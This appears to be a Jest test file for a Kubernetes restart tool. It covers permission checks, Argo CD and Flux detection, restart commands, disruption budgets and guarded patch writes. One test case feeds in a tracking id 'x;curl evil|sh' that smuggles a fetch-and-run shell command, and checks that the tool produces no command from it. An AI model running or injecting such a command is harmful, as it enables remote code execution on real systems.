import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { shownOf } from './facts-of-workload.ts'
import { keeperOf } from './keeper.ts'
import { API, AT, record, STAMP, workload } from './parts-for-tests.ts'
import { inVain, type RolledObject } from './rollout.ts'
import { shapeOf } from './shape.ts'
import { restartCommand, toolOf } from '../wire/restart-command.ts'
import type { Restart } from '../wire/restarts.ts'
import { mayRestart } from './who.ts'
import { nextOf, restartPatch } from './write.ts'

const person = (user: string, groups: string[] = []) => ({ user, team: 'T1', groups, name: user })

describe('who may', () => {
  test.each([
    ['a member by id', { members: ['U0MEI'] }, person('U0MEI'), undefined],
    ['a member by group', { members: ['S0PAY'] }, person('U0SRE', ['S0PAY']), undefined],
    ['a stranger', { members: ['U0MEI', 'S0PAY'] }, person('U0OUT', ['S0SHOP']), 'NOT_OF_THE_TEAM'],
    ['nobody where nobody is listed', {}, person('U0MEI'), 'TEAM_HAS_NO_MEMBERS'],
    ['nobody where the list is empty', { members: [] }, person('U0MEI'), 'TEAM_HAS_NO_MEMBERS'],
  ])('%s', (_name, team, who, code) => {
    expect(mayRestart('payments', team, who)?.code).toBe(code)
  })

  test('whom to ask: the contact, else the members', () => {
    expect(mayRestart('a', { members: ['U0MEI'], contact: 'U0LEE' }, person('U0OUT'))?.facts['ask']).toBe('U0LEE')
    expect(mayRestart('a', { members: ['U0MEI'] }, person('U0OUT'))?.facts['ask']).toEqual(['U0MEI'])
  })
})

describe('who keeps it', () => {
  const labels = (name: string, value: string) => workload({ meta: { labels: { [name]: value } } })
  const tracked = (id: string) => workload({ meta: { annotations: { 'argocd.argoproj.io/tracking-id': id } } })
  const PLAIN = 'kubectl rollout restart deployment/api -n pay'
  const FLUX = `${PLAIN} --field-manager=flux-client-side-apply`
  const ofArgo = (app: string) =>
    `argocd app actions run ${app} restart --group apps --kind Deployment --namespace pay --resource-name api`
  test.each([
    ['nobody', workload(), null, PLAIN],
    ['a Helm chart is no keeper', labels('app.kubernetes.io/instance', 'api'), null, PLAIN],
    ['Argo CD, by its tracking id', tracked('store:apps/Deployment:pay/api'), 'Argo CD', ofArgo('store')],
    ['Argo CD, by its own label', labels('argocd.argoproj.io/instance', 'store'), 'Argo CD', ofArgo('store')],
    [
      'an Application of another namespace',
      tracked('team-a_store:apps/Deployment:pay/api'),
      'Argo CD',
      ofArgo('team-a/store'),
    ],
    ['Argo CD, by a name that is none: no command', tracked('x;curl evil|sh:apps/Deployment:pay/api'), 'Argo CD', null],
    ['Flux, a Kustomization', labels('kustomize.toolkit.fluxcd.io/name', 'apps'), 'Flux', FLUX],
    ['Flux, a HelmRelease', labels('helm.toolkit.fluxcd.io/name', 'api'), 'Flux', FLUX],
  ])('%s', (_name, object, tool, command) => {
    const keeper = keeperOf(object)
    expect([toolOf(API.kind, keeper), restartCommand(API, keeper)]).toEqual([tool, command])
  })

  test('a Rollout is Argo Rollouts’, whoever keeps it; what no tool restarts has no command', () => {
    const rollout = { ...API, kind: 'Rollout' }
    expect([toolOf('Rollout', undefined), toolOf('Rollout', { tool: 'Flux' })]).toEqual(Array(2).fill('Argo Rollouts'))
    expect(restartCommand(rollout, { tool: 'Flux' })).toBe('kubectl argo rollouts restart api -n pay')
    expect(restartCommand({ ...API, kind: 'CronJob' }, { tool: 'Argo CD', app: 'store' })).toBeNull()
  })
})

describe('what is shown', () => {
  const budget = (disruptionsAllowed: number, app = 'api') => ({
    apiVersion: 'policy/v1',
    kind: 'PodDisruptionBudget',
    metadata: { name: app },
    spec: { selector: { matchLabels: { app } } },
    status: { disruptionsAllowed },
  })
  test.each([
    ['pods, strategy and no budget', workload(), [], { replicas: 3, ready: 3, strategy: 'RollingUpdate' }],
    ['the tightest of its own budgets', workload(), [budget(2), budget(0), budget(9, 'web')], { allows: 0 }],
    ['that budgets can not be read', workload(), null, { budgetUnknown: true }],
    ['a gap by Recreate', workload({ spec: { replicas: 3, strategy: { type: 'Recreate' } } }), [], { gap: true }],
    ['a gap of a single pod', workload({ spec: { replicas: 1 } }), [], { gap: true }],
  ])('%s', (_name, object, budgets, facts) => {
    expect(shownOf(API, object, budgets)).toMatchObject({
      workload: 'pay/Deployment/api',
      uid: 'u1',
      shape: shapeOf(object),
      ...facts,
    })
  })

  test('no gap of a DaemonSet with one node, nor of three rolling pods', () => {
    const one = workload({ kind: 'DaemonSet', status: { desiredNumberScheduled: 1, numberReady: 1 } })
    expect(shownOf(API, one, [])).toMatchObject({ replicas: 1, ready: 1 })
    expect([shownOf(API, one, []), shownOf(API, workload(), [])].map((facts) => 'gap' in facts)).toEqual([false, false])
  })

  test.each([
    ['paused', workload({ spec: { paused: true } }), 'ROLLOUT_PAUSED'],
    ['on delete', workload({ spec: { replicas: 3, updateStrategy: { type: 'OnDelete' } } }), 'ON_DELETE'],
    [
      'a partition',
      workload({ spec: { replicas: 3, updateStrategy: { rollingUpdate: { partition: 1 } } } }),
      'ROLLOUT_PARTITION',
    ],
    ['no pod wanted', workload({ spec: { replicas: 0 } }), 'SCALED_TO_ZERO'],
    ['nothing in the way', workload(), null],
  ])('in vain: %s', (_name, object, cause) => {
    expect(inVain(object)).toBe(cause)
  })
})

describe('the one write', () => {
  test('is the annotation of kubectl, guarded by uid and resourceVersion', () => {
    const tests = [
      { op: 'test', path: '/metadata/uid', value: 'u1' },
      { op: 'test', path: '/metadata/resourceVersion', value: '77' },
    ]
    const path = '/spec/template/metadata/annotations'
    expect(restartPatch(workload(), STAMP)).toEqual([...tests, { op: 'add', path, value: { [AT]: STAMP } }])
    expect(restartPatch(workload({ stamp: 'before' }), STAMP)).toEqual([
      ...tests,
      { op: 'add', path: `${path}/kubectl.kubernetes.io~1restartedAt`, value: STAMP },
    ])
  })

  test.each([
    ['as it was shown', workload(), { kind: 'write' }],
    ['another status is no change', workload({ meta: { resourceVersion: '90' } }), { kind: 'write' }],
    ['our stamp is there', workload({ meta: { generation: 5 }, stamp: STAMP }), { kind: 'written' }],
    ['an autoscaler is no change', workload({ meta: { generation: 9 }, spec: { replicas: 7 } }), { kind: 'write' }],
    ['somebody deployed', deployed(5), { because: { code: 'RESTART_CHANGED' } }],
    ['somebody restarted it', workload({ stamp: 'another' }), { because: { code: 'RESTART_CHANGED' } }],
    ['somebody changed the strategy', workload({ spec: { strategy: { type: 'Recreate' } } }), { kind: 'no' }],
    ['made anew', workload({ meta: { uid: 'u2' } }), { because: { code: 'RESTART_GONE' } }],
    ['gone', null, { because: { code: 'RESTART_GONE' } }],
  ])('%s', (_name, object, next) => {
    expect(nextOf(record(), object)).toMatchObject(next)
  })

  test.each([
    ['as it was shown, by the generation of a record of before', 4, undefined, { kind: 'write' }],
    ['changed since, by that', 5, undefined, { because: { code: 'RESTART_CHANGED' } }],
    ['tried, and nobody has written since', 4, 4, { kind: 'write' }],
    ['tried, and somebody has: it may have been ours', 5, 4, { because: { code: 'RESTART_CHANGED' } }],
  ])('%s', (_name, generation, tried, next) => {
    const { shape: _shape, ...old } = record({ generation: 4 })
    const one = tried === undefined ? old : record({ tried })
    expect(nextOf(one, workload({ meta: { generation } }))).toMatchObject(next)
  })

  test('is made at most once, however often it is looked at and whoever else writes', () => {
    const acts = fc.constantFrom(...WORKER_ACTS, ...OTHER_ACTS)
    fc.assert(
      fc.property(fc.array(acts, { maxLength: 12 }), (all) => {
        let state: State = { one: record(), object: workload(), writes: 0 }
        for (const act of all) state = isOfOthers(act) ? afterOthers(state, act) : afterWorker(state, act)
        expect(state.writes).toBeLessThanOrEqual(1)
      }),
    )
  })
})

/** `died`: noted that it writes, and died before; `lost`: written, and died before it could note that. */
const WORKER_ACTS = ['look', 'lost', 'died'] as const
const OTHER_ACTS = ['deploy', 'scale', 'undo', 'status'] as const
type WorkerAct = (typeof WORKER_ACTS)[number]
type OtherAct = (typeof OTHER_ACTS)[number]
type State = { readonly one: Restart; readonly object: RolledObject; readonly writes: number }

function isOfOthers(act: WorkerAct | OtherAct): act is OtherAct {
  return (OTHER_ACTS as readonly string[]).includes(act)
}

function afterWorker({ one, object, writes }: State, act: WorkerAct): State {
  if (nextOf(one, object).kind !== 'write') return { one, object, writes }
  const { generation = 0 } = object.metadata
  const noted = { ...one, tried: generation }
  if (act === 'died') return { one: noted, object, writes }
  return { one: noted, object: workload({ meta: { generation: generation + 1 }, stamp: STAMP }), writes: writes + 1 }
}

function afterOthers(state: State, act: OtherAct): State {
  const { object } = state
  const generation = (object.metadata.generation ?? 0) + 1
  const others: Readonly<Record<OtherAct, RolledObject>> = {
    deploy: deployed(generation),
    undo: workload({ meta: { generation } }),
    scale: { ...object, metadata: { ...object.metadata, generation } },
    status: { ...object, metadata: { ...object.metadata, resourceVersion: '99' } },
  }
  return { ...state, object: others[act] }
}

function deployed(generation: number): RolledObject {
  return workload({ meta: { generation }, spec: { template: { metadata: { labels: { app: 'api', v: '2' } } } } })
}
